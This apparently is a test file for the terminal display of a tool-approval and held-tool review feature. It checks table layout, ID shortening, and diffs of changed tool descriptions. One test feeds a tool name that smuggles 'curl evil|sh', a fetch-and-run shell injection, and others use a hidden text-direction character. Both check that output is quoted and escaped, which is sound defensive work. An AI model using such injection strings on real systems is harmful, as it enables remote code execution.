import { describe, expect, it } from 'vitest';
import type { OpenApproval } from '../../core/approvals/approvals.ts';
import type { HeldReport } from '../hub/held-tools.ts';
import { PLAIN } from '../terminal/style.ts';
import { renderApproval, renderApprovals, shortIds } from './approvals.ts';
import { renderHeldList, renderHeldTool } from './held.ts';

const NOW = 1_000_000;
const approval = (id: string, more: Partial<OpenApproval> = {}): OpenApproval => ({
  id,
  caller: 'laptop',
  server: 'files',
  tool: 'write_file',
  arguments: '{"path":"/tmp/x"}',
  askedAt: NOW - 12_000,
  state: 'open',
  expiresAt: undefined,
  ...more,
});
const options = { style: PLAIN, now: NOW, width: Number.POSITIVE_INFINITY };
const lines = (text: string): string[] => text.split('\n');

describe('renderApprovals', () => {
  it('shows who asks for what, and the next step', () => {
    const list = [
      approval('abcdef0123'),
      approval('abcdef9999', { state: 'allowed', expiresAt: NOW + 60_000, arguments: '{"a":"\u202e"}' }),
    ];
    expect(lines(renderApprovals(list, options))).toEqual([
      'ID       STATE                AGE   WHO     WHAT              ARGUMENTS',
      'abcdef0  open                 12 s  laptop  files.write_file  {"path":"/tmp/x"}',
      String.raw`abcdef9  allowed, 1 min left  12 s  laptop  files.write_file  {"a":"\u202e"}`,
      '',
      'Next: pincer approvals allow abcdef0, or deny',
      '',
    ]);
    expect(renderApprovals([], options)).toBe('Nothing waits for you.\n');
  });

  it('cuts long arguments to the width of a terminal; one alone is shown whole', () => {
    const long = approval('abcdef0123', { arguments: `{"text":"${'x'.repeat(200)}"}` });
    for (const line of lines(renderApprovals([long], { ...options, width: 80 })))
      expect(line.length).toBeLessThanOrEqual(80);
    expect(renderApproval(long, options)).toContain('x'.repeat(200));
  });

  it('shortens ids as far as they stay apart', () => {
    expect(shortIds(['abcdefgh', 'abcdefxy', 'zz'])).toEqual(['abcdefg', 'abcdefx', 'zz']);
  });
});

describe('renderHeldTool', () => {
  const changed: HeldReport = {
    server: 'files',
    tool: 'write_file',
    why: 'changed',
    digest: 'd',
    changes: [
      { path: 'description', line: 2, before: 'Writes.', after: 'Writes.\nAnd \\u202e reads.' },
      { path: 'inputSchema.properties.path', line: undefined, before: '{"type":"string"}', after: undefined },
    ],
  };

  it('puts what was accepted beside what is offered', () => {
    expect(lines(renderHeldTool(changed, PLAIN))).toEqual([
      'files.write_file has changed',
      '  description from line 2',
      '    - Writes.',
      '    + Writes.',
      String.raw`    + And \u202e reads.`,
      '  inputSchema.properties.path',
      '    - {"type":"string"}',
      '',
    ]);
  });

  it('shows all of what is new', () => {
    const member = { line: undefined, before: undefined };
    const changes = [
      { ...member, path: 'name', after: '"write_file"' },
      { ...member, path: 'description', after: 'Writes.\nA file.' },
    ];
    expect(lines(renderHeldTool({ ...changed, why: 'new', changes }, PLAIN))).toEqual([
      'files.write_file is new',
      '  description: Writes.',
      '    A file.',
      '  name: "write_file"',
      '',
    ]);
  });

  it('lists what is held, and the next step', () => {
    expect(lines(renderHeldList([changed], PLAIN))).toEqual([
      '!  files.write_file  changed: description, inputSchema.properties.path',
      '',
      '1 tool held. Look, then accept: pincer accept files.write_file',
      '',
    ]);
    expect(renderHeldList([], PLAIN)).toContain('Nothing is held');
    expect(renderHeldList([{ ...changed, tool: 'y;curl evil|sh #' }], PLAIN)).toContain(
      "then accept: pincer accept 'files.y;curl evil|sh #'\n",
    );
  });
});
